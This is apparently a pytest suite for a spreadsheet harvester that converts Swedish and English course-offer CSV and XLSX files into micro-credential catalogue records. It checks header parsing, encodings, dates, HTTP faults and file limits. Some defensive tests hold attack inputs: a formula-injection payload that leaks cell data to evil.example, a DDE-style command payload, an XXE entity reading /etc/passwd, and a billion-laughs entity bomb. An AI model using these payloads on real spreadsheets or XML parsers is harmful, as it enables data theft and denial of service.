"""The spreadsheet harvester: the template, CSV and XLSX as providers save them, through the real pipeline.

Every harvest here runs the real pipeline (gather -> map -> build_offer -> SHACL
-> in-memory Oxigraph), locally and against a real HTTP server on 127.0.0.1.
"""

from __future__ import annotations

import codecs
import csv
import io
import zipfile
from datetime import datetime

import openpyxl
import pytest

from harvesters.spreadsheet import (
    COLUMNS,
    NAMES,
    SpreadsheetHarvester,
    resolve_header,
    template_columns,
    template_example,
)
from harvesters.spreadsheet_template import write_template

from .conftest import BASE, ROOT
from .feedserver import FeedServer
from .harvesting import HarvestingCatalogue

TEMPLATE = ROOT / "examples" / "template"
FEED = ROOT / "examples" / "feeds" / "spreadsheet" / "norrkust-kompetens.csv"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OFFER = f"{BASE}offer/nk/"


@pytest.fixture()
def server():
    with FeedServer() as running:
        yield running


class Catalogue(HarvestingCatalogue):
    source_id, source_name, harvester = "nk", "Norrkust Kompetens AB", "spreadsheet"

    def harvest_bytes(self, content: bytes, name: str = "offers.csv", **options):
        path = self.tmp / name
        path.write_bytes(content)
        return self.harvest(path, **options)

    def values(self, subject: str, path: str) -> set[str]:
        rows = self.store.query(f"SELECT ?v WHERE {{ <{subject}> {path} ?v }}")
        return {r["v"].value if not hasattr(r["v"], "language") or not r["v"].language else f"{r['v'].value}@{r['v'].language}" for r in rows}

    def microcredential(self, offer: str) -> bool:
        rows = self.store.query(f"SELECT ?mc WHERE {{ ?r foaf:primaryTopic <{offer}> ; mcc:microCredential ?mc }}")
        return [r["mc"].value for r in rows] == ["true"]

    def missing(self, offer: str) -> set[str]:
        rows = self.store.query(f"SELECT ?m WHERE {{ ?r foaf:primaryTopic <{offer}> ; mcc:missingElement ?m }}")
        return {r["m"].value.rsplit("/", 1)[-1] for r in rows}


@pytest.fixture()
def catalogue(tmp_path, validator):
    return Catalogue(tmp_path, validator)


# -- building spreadsheets -----------------------------------------------------------


def example_row(**changes: str) -> dict[str, str]:
    """The template's example row by machine key, with changes (None removes a column)."""
    row = {key: template_example(column, lang) for _, key, column, lang in template_columns()}
    for key, value in changes.items():
        if value is None:
            row.pop(key)
        else:
            row[key] = value
    return row


def sheet(rows: list[dict[str, str]], headers: dict[str, str] | None = None, delimiter: str = ";", bom: bool = False,
          encoding: str = "utf-8") -> bytes:
    """A CSV of rows (dicts by machine key), with headers renamed through ``headers``."""
    keys = list(dict.fromkeys(k for row in rows for k in row))
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([(headers or {}).get(k, k) for k in keys])
    for row in rows:
        writer.writerow([row.get(k, "") for k in keys])
    data = buffer.getvalue().encode(encoding)
    return (codecs.BOM_UTF8 if bom else b"") + data


def sv_headers() -> dict[str, str]:
    return {key: f"{c.sv} ({'svenska' if lang == 'sv' else 'engelska'})" if lang else c.sv for _, key, c, lang in template_columns()}


def en_headers() -> dict[str, str]:
    return {key: f"{c.en} ({'Swedish' if lang == 'sv' else 'English'})" if lang else c.en for _, key, c, lang in template_columns()}


def notes(outcome, kind: str | None = None) -> list:
    return [n for n in outcome.notes if kind is None or n.kind == kind]


# -- the template --------------------------------------------------------------------


def test_template_files_are_generated_from_the_column_table(tmp_path):
    write_template(tmp_path)
    assert (tmp_path / "offers-template.csv").read_bytes() == (TEMPLATE / "offers-template.csv").read_bytes()
    assert (tmp_path / "offers-template-columns.md").read_text("utf-8") == (TEMPLATE / "offers-template-columns.md").read_text("utf-8")
    fresh = openpyxl.load_workbook(tmp_path / "offers-template.xlsx")
    bundled = openpyxl.load_workbook(TEMPLATE / "offers-template.xlsx")
    assert fresh.sheetnames == bundled.sheetnames == ["Kurser - Offers", "Anvisningar - Instructions"]
    for name in fresh.sheetnames:
        assert [[c.value for c in r] for r in fresh[name].iter_rows()] == [[c.value for c in r] for r in bundled[name].iter_rows()]
    headers = bundled.worksheets[0][1]
    assert all(cell.comment is not None for cell in headers) and "[offer_id]" in headers[0].comment.text
    assert {key for _, key, _, _ in template_columns()} <= set((TEMPLATE / "offers-template-columns.md").read_text("utf-8").replace("`", " ").split())


@pytest.mark.parametrize("name", ["offers-template.csv", "offers-template.xlsx"])
def test_the_template_example_row_is_a_complete_micro_credential(catalogue, name):
    outcome = catalogue.harvest(TEMPLATE / name)
    assert outcome.run.outcome == "published", outcome.run.message
    offer = OFFER + "EX-ELS-2027"
    assert catalogue.offers() == {offer}
    assert catalogue.microcredential(offer), catalogue.missing(offer)
    assert outcome.notes == [] and outcome.errors == []
    assert catalogue.values(offer, "elm:temporal/elm:startDate | dcterms:temporal/elm:startDate") == {"2027-09-06T00:00:00Z"}
    assert catalogue.values(offer, "dcterms:temporal/elm:endDate") == {"2027-10-29T23:59:59Z"}
    assert catalogue.values(offer, "elm:priceDetail/elm:amount/rdf:value") == {"4500"}


def test_every_column_is_in_the_mapping_and_names_are_unambiguous():
    mapped = " ".join(row[0] for row in SpreadsheetHarvester.mapping)
    assert all(f"({c.key}" in mapped for c in COLUMNS)
    assert all(resolve_header(header)[0].key == key.removesuffix("_sv").removesuffix("_en") for header, key, _, _ in template_columns())
    assert len(NAMES) > 3 * len(COLUMNS)


# -- the bundled example feed -------------------------------------------------------------


def test_the_norrkust_example_feed(catalogue):
    outcome = catalogue.harvest(FEED)
    assert outcome.run.outcome == "published", outcome.run.message
    # NK-EXCEL-2027 has no web page of its own: a description and the provider's page list it,
    # but it is not Europass-ready (and its unreadable start date is noted, not guessed).
    assert (outcome.run.published, outcome.run.quarantined) == (6, 0)
    assert catalogue.level(OFFER + "NK-EXCEL-2027") == "listed"
    assert catalogue.level(OFFER + "YHK-SOL-2027") == "complete"
    complete = ["YHK-SOL-2027", "YHK-SAK-2027", "NK-FIN-VO1", "NK-LEAN-1"]
    for key in complete:
        assert catalogue.microcredential(OFFER + key), (key, catalogue.missing(OFFER + key))
    assert not catalogue.microcredential(OFFER + "NK-AI-P1")
    assert catalogue.missing(OFFER + "NK-AI-P1") == {"quality-assurance"}
    assert catalogue.quarantined() == set()
    dropped = {(n.record, n.field) for n in notes(outcome, "dropped")}
    assert ("NK-EXCEL-2027", "start date") in dropped and ("YHK-SOL-2027", "Intern anteckning") in dropped
    assert ("YHK-SAK-2027", "Intern anteckning") not in dropped  # empty cells are not noted

    sol, spec = OFFER + "YHK-SOL-2027", f"{BASE}spec/nk/YHK-SOL-2027"
    assert catalogue.values(sol, "dcterms:title") == {"Drift och underhåll av solcellsanläggningar@sv", "Operation and maintenance of solar power plants@en"}
    assert catalogue.values(spec, "elm:creditPoint/elm:point") == {"7.5"}  # "7,5" with a decimal comma
    assert catalogue.values(spec, "elm:educationLevel") == {"http://data.europa.eu/snb/eqf/5"}  # "Nivå 5"
    assert catalogue.values(spec, "elm:ISCEDFCode") == {"http://data.europa.eu/snb/isced-f/0713"}
    assert catalogue.values(sol, "elm:mode") == {"http://data.europa.eu/snb/learning-assessment/e92d221e4d"}  # "blandat"
    assert catalogue.values(spec, "elm:learningOutcome/dcterms:title") >= {
        "Analyse operating data and thermographic images to find solar modules and inverters that underperform.@en"}
    assert len(catalogue.values(spec, "elm:learningOutcome")) == 3
    assert catalogue.values(sol, "elm:providedBy/elm:location/elm:address/elm:countryCode") == {
        "http://publications.europa.eu/resource/authority/country/SWE"}  # "Sverige"
    assert catalogue.values(sol, "elm:priceDetail/elm:amount/rdf:value") == {"0"}  # "avgiftsfri"
    assert catalogue.values(spec, "elm:provenBy/dcterms:type") == {
        "http://data.europa.eu/snb/assessment/6a4db9f11d", "http://data.europa.eu/snb/assessment/6e6cb2cc78"}
    assert catalogue.values(spec, "elm:awardingOpportunity/elm:awardingBody") == catalogue.values(sol, "elm:providedBy")

    sak = f"{BASE}spec/nk/YHK-SAK-2027"
    # "20 YH-poäng": kept as YH points, and as the ECTS value the template documents (5 YH-poäng = 1,5 ECTS)
    assert catalogue.values(f"{sak}/credits/yh", "elm:point") == {"20"}
    assert catalogue.values(f"{sak}/credits/yh", "elm:framework") == {"https://w3id.org/mc-catalogue/credit-system/yh"}
    assert catalogue.values(f"{sak}/credits", "elm:point") == {"6"}
    assert catalogue.values(f"{sak}/credits", "elm:framework") == {"http://data.europa.eu/snb/education-credit/6fcec5c5af"}
    assert catalogue.values(OFFER + "YHK-SAK-2027", "elm:mode") == {"http://data.europa.eu/snb/learning-assessment/920fbb3cbe"}  # "distans"
    assert len(catalogue.values(sak, "elm:learningOutcome")) == 3  # separated by ";"
    fin, fin_spec = OFFER + "NK-FIN-VO1", f"{BASE}spec/nk/NK-FIN-VO1"
    assert catalogue.values(fin_spec, "dcterms:language") == {
        "http://publications.europa.eu/resource/authority/language/FIN", "http://publications.europa.eu/resource/authority/language/SWE"}
    assert catalogue.values(fin, "elm:defaultLanguage") == {"http://publications.europa.eu/resource/authority/language/SWE"}
    assert catalogue.values(fin, "elm:priceDetail/elm:amount/rdf:value") == {"4900"}  # "4 900"
    assert catalogue.values(fin_spec, "elm:volumeOfLearning") == {"P1DT16H"}  # 40 hours, canonical
    lean = OFFER + "NK-LEAN-1"
    assert catalogue.values(lean, "elm:mode") == {
        "http://data.europa.eu/snb/learning-assessment/9191af2ed9", "http://data.europa.eu/snb/learning-assessment/729f3bed4b"}


def test_iris_are_stable_and_an_unchanged_file_is_not_rewritten(catalogue):
    first = catalogue.harvest(FEED)
    offers = catalogue.offers()
    second = catalogue.harvest(FEED)
    assert first.run.outcome == "published" and second.run.outcome == "unchanged"
    assert catalogue.offers() == offers and OFFER + "YHK-SOL-2027" in offers


# -- headers ---------------------------------------------------------------------------


@pytest.mark.parametrize("style", ["template", "swedish", "english", "keys", "shouting-without-accents"])
def test_swedish_english_and_machine_headers_give_the_same_offer(catalogue, style):
    headers = {
        "template": {key: header for header, key, _, _ in template_columns()},
        "swedish": sv_headers(),
        "english": en_headers(),
        "keys": {},
        "shouting-without-accents": {k: v.upper().replace("Ä", "A").replace("Å", "A").replace("Ö", "O") for k, v in sv_headers().items()},
    }[style]
    outcome = catalogue.harvest_bytes(sheet([example_row()], headers))
    assert outcome.run.outcome == "published", outcome.run.message
    offer = OFFER + "EX-ELS-2027"
    assert catalogue.microcredential(offer), catalogue.missing(offer)
    assert catalogue.values(offer, "dcterms:title") == {
        "Elsäkerhet vid arbete med solcellsanläggningar@sv", "Electrical safety in solar power installations@en"}
    assert [n for n in outcome.notes if n.kind == "dropped"] == []


def test_text_columns_without_a_language_and_extra_languages(catalogue):
    row = example_row(title_sv=None, title_en=None, description_sv=None, description_en=None, title_fi="Sähköturvallisuus aurinkovoimaloissa")
    row["Title"] = "Electrical safety"
    outcome = catalogue.harvest_bytes(sheet([row]))
    offer = OFFER + "EX-ELS-2027"
    assert catalogue.values(offer, "dcterms:title") == {"Electrical safety@en", "Sähköturvallisuus aurinkovoimaloissa@fi"}
    assert [(n.record, n.kind) for n in outcome.notes] == [("(header)", "guessed")]


def test_a_header_without_the_required_columns_fails_the_source(catalogue):
    catalogue.harvest_bytes(sheet([example_row()]))
    before = catalogue.offers()
    outcome = catalogue.harvest_bytes(sheet([example_row(homepage=None, outcomes_sv=None, outcomes_en=None)]))
    assert outcome.run.outcome == "failed"
    assert "Webbsida / Web page" in outcome.run.message and "Läranderesultat / Learning outcomes" in outcome.run.message
    assert "examples/template/" in outcome.run.message and "row 1" in outcome.run.message
    assert catalogue.offers() == before


def test_unknown_columns_are_noted_as_dropped(catalogue):
    row = example_row()
    row["Intern anteckning"] = "ring Maria"
    outcome = catalogue.harvest_bytes(sheet([row, example_row(offer_id="EX-2")]))
    assert [(n.record, n.field, n.value) for n in notes(outcome, "dropped")] == [("EX-ELS-2027", "Intern anteckning", "ring Maria")]


# -- reading CSV -------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [";", ",", "\t"], ids=["semicolon", "comma", "tab"])
@pytest.mark.parametrize("bom", [False, True], ids=["no-bom", "bom"])
def test_delimiters_and_byte_order_mark(catalogue, delimiter, bom):
    outcome = catalogue.harvest_bytes(sheet([example_row(), example_row(offer_id="EX-2")], sv_headers(), delimiter, bom))
    assert outcome.run.outcome == "published", outcome.run.message
    assert catalogue.offers() == {OFFER + "EX-ELS-2027", OFFER + "EX-2"}
    assert "Elsäkerhet vid arbete med solcellsanläggningar@sv" in catalogue.values(OFFER + "EX-2", "dcterms:title")


def test_utf16_unicode_text_from_excel(catalogue):
    content = sheet([example_row()], sv_headers(), "\t").decode("utf-8")
    outcome = catalogue.harvest_bytes(codecs.BOM_UTF16_LE + content.encode("utf-16-le"), "offers.txt")
    assert outcome.run.outcome == "published", outcome.run.message


def test_windows_1252_is_refused_naming_the_line_unless_declared(catalogue):
    ascii_row = example_row(title_sv="Elsakerhet", outcomes_sv="Bedoma risker", outcomes_en="Assess risks")
    ascii_row = {k: v.encode("ascii", "replace").decode() for k, v in ascii_row.items()}
    latin = example_row(offer_id="EX-2", title_sv="Elsäkerhet för någon")
    content = sheet([ascii_row, latin], delimiter=";", encoding="cp1252")
    catalogue.harvest_bytes(sheet([example_row()]))
    before = catalogue.offers()
    outcome = catalogue.harvest_bytes(content)
    assert outcome.run.outcome == "failed"
    assert "line 3" in outcome.run.message and "Windows-1252" in outcome.run.message and "CSV UTF-8" in outcome.run.message
    assert catalogue.offers() == before
    outcome = catalogue.harvest_bytes(content, encoding="windows-1252")
    assert outcome.run.outcome == "published", outcome.run.message
    assert "Elsäkerhet för någon@sv" in catalogue.values(OFFER + "EX-2", "dcterms:title")


def test_a_csv_as_swedish_excel_saves_it(catalogue):
    """Excel (sv-SE) "CSV UTF-8": BOM, ';', CRLF, decimal comma, ISO dates, non-breaking thousands, Alt+Enter line breaks."""
    lines = [
        "Kurskod;Titel (svenska);Webbsida;Anordnare;Anordnarens land;Utbildningsområde;EQF-nivå;Undervisningsspråk;Poäng;"
        "Arbetsinsats (timmar);Studieform;Startdatum;Slutdatum;Pris;Valuta;Läranderesultat (svenska)",
        "NK-1;Solceller;https://www.norrkust.example/sol;Norrkust Kompetens AB;Sverige;0713;5;svenska;7,5;200;distans;"
        "2027-08-30;2027-10-29;14\u00a0500,00;SEK;\"Felsöka anläggningar.\nSkriva rapporter.\"",
        ";;;;;;;;;;;;;;;",
    ]
    outcome = catalogue.harvest_bytes(codecs.BOM_UTF8 + "\r\n".join(lines).encode("utf-8") + b"\r\n")
    assert outcome.run.outcome == "published", outcome.run.message
    offer, spec = OFFER + "NK-1", f"{BASE}spec/nk/NK-1"
    assert catalogue.values(spec, "elm:creditPoint/elm:point") == {"7.5"}
    assert catalogue.values(offer, "elm:priceDetail/elm:amount/rdf:value") == {"14500"}
    assert catalogue.values(offer, "dcterms:temporal/elm:startDate") == {"2027-08-30T00:00:00Z"}
    assert catalogue.values(spec, "elm:learningOutcome/dcterms:title") == {"Felsöka anläggningar.@sv", "Skriva rapporter.@sv"}
    assert catalogue.offers() == {offer}  # the row of empty cells is skipped


def test_a_bad_date_is_noted_and_the_row_still_published(catalogue):
    outcome = catalogue.harvest_bytes(sheet([example_row(start="30/8/2027", deadline="2027-02-30")]))
    assert outcome.run.outcome == "published"
    offer = OFFER + "EX-ELS-2027"
    assert catalogue.microcredential(offer)
    assert {(n.field, n.value) for n in notes(outcome, "dropped")} == {("start date", "30/8/2027"), ("application deadline", "2027-02-30")}
    assert catalogue.values(offer, "dcterms:temporal/elm:startDate") == set()


def test_an_end_before_the_start_is_quarantined_with_a_reason(catalogue):
    outcome = catalogue.harvest_bytes(sheet([example_row(end="2027-01-01"), example_row(offer_id="EX-2")]))
    assert outcome.run.quarantined == 1 and catalogue.quarantined() == {OFFER + "EX-ELS-2027"}


def test_rows_without_a_course_code_or_with_a_repeated_one_fail_alone(catalogue):
    outcome = catalogue.harvest_bytes(sheet([example_row(), example_row(offer_id=""), {}, example_row(), example_row(offer_id="EX-3")]))
    assert outcome.run.outcome == "partial"
    assert catalogue.offers() == {OFFER + "EX-ELS-2027", OFFER + "EX-3"}
    errors = sorted((e.code, e.position) for e in outcome.errors)
    assert errors == [("duplicate-identifier", "row 5"), ("missing-identifier", "row 3")]
    assert all("Kurskod / Course code" in e.message or "already used in row 2" in e.message for e in outcome.errors)


def test_formula_injection_is_stored_as_plain_text(catalogue):
    evil = {"title_sv": '=HYPERLINK("http://evil.example/?leak="&A1;"Klicka")', "description_sv": "@SUM(1+1)*cmd|' /C calc'!A0",
            "title_en": "+46 920 55 01 00", "description_en": "-2+3"}
    outcome = catalogue.harvest_bytes(sheet([example_row(**evil)]))
    assert outcome.run.outcome == "published", outcome.run.message
    offer = OFFER + "EX-ELS-2027"
    assert catalogue.values(offer, "dcterms:title") == {evil["title_sv"] + "@sv", evil["title_en"] + "@en"}
    assert catalogue.values(offer, "dcterms:description") == {evil["description_sv"] + "@sv", evil["description_en"] + "@en"}


def test_a_local_file_over_the_size_limit_is_refused(catalogue):
    rows = [example_row(offer_id=f"EX-{i}") for i in range(600)]
    outcome = catalogue.harvest_bytes(sheet(rows), max_megabytes=0.5)
    assert outcome.run.outcome == "failed" and "limit" in outcome.run.message


# -- reading XLSX -------------------------------------------------------------------------


def workbook(rows: list[list], sheet_title: str = "Kurser") -> bytes:
    book = openpyxl.Workbook()
    book.active.title = sheet_title
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_xlsx_with_real_dates_numbers_and_a_time_zone(catalogue):
    row = example_row()
    keys = list(row)
    values = dict(row, offer_id=1001, credits=7.5, hours=200, price=14500, start=datetime(2027, 9, 14, 17, 30),
                  end=datetime(2027, 11, 30), deadline=datetime(2027, 8, 31))
    content = workbook([[k for k in keys], [values[k] for k in keys]])
    outcome = catalogue.harvest_bytes(content, "offers.xlsx", timezone="Europe/Stockholm")
    assert outcome.run.outcome == "published", outcome.run.message
    offer, spec = OFFER + "1001", f"{BASE}spec/nk/1001"
    assert catalogue.microcredential(offer)
    assert catalogue.values(spec, "elm:creditPoint/elm:point") == {"7.5"}
    assert catalogue.values(spec, "elm:volumeOfLearning") == {"P8DT8H"}
    assert catalogue.values(offer, "elm:priceDetail/elm:amount/rdf:value") == {"14500"}
    assert catalogue.values(offer, "dcterms:temporal/elm:startDate") == {"2027-09-14T17:30:00+02:00"}
    assert catalogue.values(offer, "dcterms:temporal/elm:endDate") == {"2027-11-30T23:59:59Z"}
    assert catalogue.values(offer, "elm:applicationDeadline") == {"2027-08-31T23:59:59Z"}
    assert outcome.notes == []


def test_xlsx_formula_text_stays_text_and_a_time_without_zone_is_noted(catalogue):
    book = openpyxl.Workbook()
    row = example_row()
    book.active.append(list(row))
    book.active.append([row[k] for k in row])
    title = book.active.cell(row=2, column=list(row).index("title_sv") + 1, value='=HYPERLINK("http://evil.example","x")')
    title.data_type = "s"
    book.active.cell(row=2, column=list(row).index("start") + 1, value=datetime(2027, 9, 6, 8, 30))
    buffer = io.BytesIO()
    book.save(buffer)
    outcome = catalogue.harvest_bytes(buffer.getvalue(), "offers.xlsx")
    offer = OFFER + "EX-ELS-2027"
    assert '=HYPERLINK("http://evil.example","x")@sv' in catalogue.values(offer, "dcterms:title")
    assert [(n.field, n.kind) for n in outcome.notes] == [("start", "guessed")]


@pytest.mark.parametrize(
    "content, options, words",
    [
        (b"PK\x03\x04 not really a zip", {}, "damaged"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, {}, ".xls"),
        (None, {"max_uncompressed_megabytes": 0.01}, "zip bomb"),
        (None, {"sheet": "Blad9"}, "no sheet named 'Blad9'"),
    ],
    ids=["damaged", "old-xls", "unpacks-too-large", "unknown-sheet"],
)
def test_unreadable_workbooks_fail_the_source_and_keep_the_offers(catalogue, content, options, words):
    catalogue.harvest(TEMPLATE / "offers-template.xlsx")
    before = catalogue.offers()
    outcome = catalogue.harvest_bytes(content or (TEMPLATE / "offers-template.xlsx").read_bytes(), "offers.xlsx", **options)
    assert outcome.run.outcome == "failed" and words in outcome.run.message, outcome.run.message
    assert catalogue.offers() == before


def test_a_zip_that_is_not_a_workbook_is_refused(catalogue):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "hej")
    outcome = catalogue.harvest_bytes(buffer.getvalue(), "offers.xlsx")
    assert outcome.run.outcome == "failed" and "cannot be read" in outcome.run.message


# -- over HTTP -----------------------------------------------------------------------------


def test_over_http_with_conditional_requests(server, catalogue):
    url = server.add("/norrkust.csv", FEED.read_bytes(), "text/csv")
    first = catalogue.harvest(url)
    assert first.run.outcome == "published" and first.run.published == 6
    second = catalogue.harvest(url)
    assert second.run.outcome == "unchanged"
    assert server.requests[-1][2].get("If-None-Match")


def test_xlsx_over_http(server, catalogue):
    url = server.add("/offers.xlsx", (TEMPLATE / "offers-template.xlsx").read_bytes(), XLSX_TYPE)
    assert catalogue.harvest(url).run.outcome == "published"
    assert catalogue.harvest(url).run.outcome == "unchanged"


@pytest.mark.parametrize(
    "fault, options, words",
    [
        ("status", {"status": 404}, "404"),
        ("status", {"status": 500}, "500"),
        ("truncate", {"body": FEED.read_bytes()[:3000]}, "truncated"),
        ("huge", {"size": 3 * 1024 * 1024}, "limit"),
    ],
    ids=["404", "500", "truncated", "huge"],
)
def test_http_faults_fail_the_run_and_keep_the_offers(server, catalogue, fault, options, words):
    url = server.add("/offers.csv", FEED.read_bytes(), "text/csv")
    catalogue.harvest(url)
    before = catalogue.offers()
    assert len(before) == 6
    server.fault("/offers.csv", fault, **options)
    outcome = catalogue.harvest(url, max_megabytes=1, timeout=5)
    assert outcome.run.outcome == "failed" and words in outcome.run.message, outcome.run.message
    assert "kept" in outcome.run.message
    assert catalogue.offers() == before


def test_a_server_charset_is_honoured(server, catalogue):
    content = sheet([example_row(title_sv="Svetsning för nybörjare")], encoding="cp1252")
    url = server.add("/offers.csv", content, "text/csv", charset="windows-1252")
    outcome = catalogue.harvest(url)
    assert outcome.run.outcome == "published", outcome.run.message
    assert "Svetsning för nybörjare@sv" in catalogue.values(OFFER + "EX-ELS-2027", "dcterms:title")


def _patched_template(part: str, change) -> bytes:
    source = zipfile.ZipFile(TEMPLATE / "offers-template.xlsx")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info, change(data.decode("utf-8")).encode("utf-8") if info.filename == part else data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "dtd, reference",
    [
        ('<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
        ('<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">' + "".join(
            f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>", "&i;"),
    ],
    ids=["external-entity", "billion-laughs"],
)
def test_entity_attacks_hidden_in_a_workbook_are_refused(catalogue, dtd, reference):
    catalogue.harvest(TEMPLATE / "offers-template.xlsx")
    before = catalogue.offers()
    attack = _patched_template("xl/worksheets/sheet1.xml", lambda xml: dtd + xml.replace("EX-ELS-2027", reference, 1))
    outcome = catalogue.harvest_bytes(attack, "offers.xlsx")
    assert outcome.run.outcome == "failed" and "DTD" in outcome.run.message
    assert catalogue.offers() == before
    dump = io.BytesIO()
    catalogue.store.export(dump, "nquads")
    assert b"root:" not in dump.getvalue() and b"aaaaaaaaaaaaaaaaaaaa" not in dump.getvalue()


def test_a_utf8_file_served_as_latin1_is_read_as_utf8_with_a_note(server, catalogue):
    url = server.add("/offers.csv", sheet([example_row()]), "text/csv", charset="iso-8859-1")
    outcome = catalogue.harvest(url)
    assert "Elsäkerhet vid arbete med solcellsanläggningar@sv" in catalogue.values(OFFER + "EX-ELS-2027", "dcterms:title")
    assert [(n.record, n.kind) for n in outcome.notes] == [("(file)", "guessed")]


def test_an_opendocument_spreadsheet_is_refused_with_advice(catalogue):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
    outcome = catalogue.harvest_bytes(buffer.getvalue(), "offers.ods")
    assert outcome.run.outcome == "failed" and ".ods" in outcome.run.message
